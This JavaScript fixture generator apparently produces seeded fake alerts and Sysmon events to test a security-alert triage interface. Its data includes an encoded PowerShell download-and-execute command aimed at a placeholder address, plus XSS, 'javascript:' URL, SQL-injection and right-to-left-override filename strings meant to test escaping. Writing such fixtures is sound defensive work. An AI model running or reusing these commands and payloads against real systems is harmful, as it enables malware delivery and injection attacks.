// Alerts and events that are long, many and hostile. Always the same ones: the numbers come from a seed.

let state = 20_260_317;
function random() {
  state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
  return state / 2 ** 32;
}
const pick = (list) => list[Math.floor(random() * list.length)];
export const hex = (n) => Array.from({ length: n }, () => Math.floor(random() * 16).toString(16)).join("");
export const uuid = () => `0195a3c0-${hex(4)}-7${hex(3)}-8${hex(3)}-${hex(12)}`;

const LONG_COMMAND =
  "powershell.exe -NoP -W Hidden -Enc JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAOwAkAGMALgBIAGUAYQBkAGUAcgBzAC4AQQBkAGQAKAAnAFUAcwBlAHIALQBBAGcAZQBuAHQAJwAsACcASABhAHIAYgBvAHIAUwB5AG4AYwAvADEALgA0ACcAKQA7AEkARQBYACAAJABjAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADEAOQA4AC4ANQAxAC4AMQAwADAALgAyADMALwBzAGgAaQBwAC8AbABhAGIAZQBsAC4AdAB4AHQAJwApAA==";

const RULES = [
  ["7f88047a-5bc2-4d93-8df8-fc69862e29ea", "Office Starts PowerShell That Fetches From Bare Address", "high", ["T1204.002", "T1059.001", "T1105"]],
  ["69c62594-ba11-47f1-b82f-d17cf796fca1", "Password Guessing That Succeeded", "critical", ["T1110.001", "T1078.002"]],
  ["7b0dc216-f7ba-45ea-a160-c407ee6ec445", "Many Different Long DNS Labels From One Client", "medium", ["T1071.004", "T1572"]],
  ["917301b6-936a-42cc-b405-246543e83008", "Large HTTP Upload To A Bare External Address", "high", ["T1048.003"]],
  ["aabe62e2-2419-40bf-b322-9d79711040c9", "Service Installed And Removed Within Ten Minutes", "medium", ["T1569.002", "T1021.002"]],
  ["0b9cf2b1-6b1c-4b6e-9a3f-1f5d7a1e0c11", "First Log-In Of An Account From A Country", "low", ["T1078.004"]],
  ["1d2f3a4b-0000-4000-8000-00000000aaaa", "Software Was Installed", "informational", []],
  ["1d2f3a4b-0000-4000-8000-00000000bbbb", "Modbus Write From A Host That Never Wrote Before To A Controller Of The Filling Line In Hall 3", "critical", ["T0855", "T9999"]],
  ["1d2f3a4b-0000-4000-8000-00000000cccc", "<script>alert('title')</script> & \u202efdp.exe", "low", ["T1036.002"]],
];

const HOSTS = ["WS-ACCT-07.harbor.example", "FS-01.harbor.example", "dc-02", "plc-gw-hall3", "<img src=x onerror=alert(1)>", "laptop\u202egpj.exe", "a".repeat(120) + ".example"];
const USERS = ["HARBOR\\m.okafor", "svc-backup", "root", "Łukasz Żółć", "administrator@harbor.example", "'; DROP TABLE users;--"];
const ADDRESSES = ["10.20.7.41", "198.51.100.23", "2001:db8:85a3::8a2e:370:7334", "203.0.113.77"];
const STATUSES = ["new", "new", "new", "new", "triaged", "investigating", "escalated", "resolved", "false_positive"];

export const ADMIN = { id: "0195a3c0-0000-7000-8000-000000000001", name: "Mira Okafor", role: "admin" };
export const OTHER = { id: "0195a3c0-0000-7000-8000-000000000002", name: "j.lindqvist", role: "analyst" };

export function makeAlert(at, rule = pick(RULES), status = pick(STATUSES)) {
  const [rule_id, title, severity, techniques] = rule;
  const seen = new Date(at).toISOString().replace("Z", "000Z");
  const first = new Date(at - random() * 3_600_000).toISOString().replace("Z", "000Z");
  const isOpen = status !== "resolved" && status !== "false_positive";
  const assignee = status === "new" ? null : pick([ADMIN, OTHER, null]);
  return {
    id: uuid(), version: 1, title, rule_id, severity, status,
    verdict: isOpen ? null : status === "false_positive" ? status : pick(["true_positive", "benign", "inconclusive"]),
    count: random() < 0.7 ? 1 : Math.floor(random() * random() * 20_000) + 2,
    first_seen: first, last_seen: seen,
    assignee: assignee?.id ?? null, assignee_name: assignee?.name ?? null,
    entities: [{ kind: "host", value: pick(HOSTS) }, { kind: "user", value: pick(USERS) }, ...(random() < 0.5 ? [{ kind: "address", value: pick(ADDRESSES) }] : [])],
    techniques, mode: "dry_run", previous_id: null,
    created_at: seen, updated_at: seen,
    acknowledged_at: status === "new" ? null : seen, closed_at: isOpen ? null : seen,
  };
}

/** The newest first. The times get rarer the older they are. */
export function makeAlerts(count, now) {
  const alerts = [];
  for (let at = now - 40_000, index = 0; index < count; index += 1) {
    alerts.push(makeAlert(at, index === 2 ? RULES[0] : index === 5 ? RULES[8] : undefined, index < 3 ? "new" : undefined));
    at -= random() * 240_000 * (1 + index / 400);
  }
  return alerts;
}

export const OFFICE_RULE = RULES[0];

export function detailOf(alert) {
  const rule = RULES.find(([id]) => id === alert.rule_id);
  return {
    ...alert,
    rule: {
      id: alert.rule_id, title: rule[1], level: rule[2],
      description: "An Office program starts PowerShell with an encoded command, and the text inside that command names a web address that begins with a digit, in other words a server without a name. The rule looks through the Base64 at all three alignments, so the address is found wherever it stands.\n",
      tags: ["attack.execution", ...rule[3].map((id) => `attack.${id.toLowerCase()}`)],
      triage: ["Read the decoded command, and ask the proxy who else loaded from that address", "Isolate the workstation if the script ran"],
      false_positives: ["Add-ins of a legacy document workflow that load their scripts from a server by its address"],
      references: ["https://attack.mitre.org/techniques/T1204/002/", "javascript:alert(1)"],
    },
    findings: [{ id: uuid(), event_ids: [uuid()], seen_at: alert.last_seen, matched: matched(alert), group: {} }],
    comments: alert.comments ?? [],
  };
}

function matched(alert) {
  if (alert.rule_id !== OFFICE_RULE[0]) return [{ field: "host", value: alert.entities[0].value }];
  return [
    { field: "ParentImage", value: "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" },
    { field: "Image", value: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" },
    { field: "CommandLine", value: alert.command ?? LONG_COMMAND },
  ];
}

export function eventsOf(alert, source = "windows-fleet") {
  const raw = alert.raw ?? JSON.stringify({
    EventID: 1, Channel: "Microsoft-Windows-Sysmon/Operational", Hostname: alert.entities[0].value,
    "@timestamp": alert.last_seen, Image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    CommandLine: LONG_COMMAND, ParentImage: "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    User: alert.entities[1].value, Hashes: { MD5: hex(32), SHA256: hex(64) }, Note: "<script>alert('raw')</script> \u202etxt.exe \u0007 bell",
  });
  return [{
    id: uuid(), time: alert.last_seen, received_at: alert.created_at, source, class_uid: 1007, raw,
    ocsf: { class_uid: 1007, category_uid: 1, activity_id: 1, severity_id: 1, time: Date.parse(alert.last_seen), device: { hostname: alert.entities[0].value }, process: { cmd_line: LONG_COMMAND, parent_process: { name: "WINWORD.EXE" } } },
  }];
}
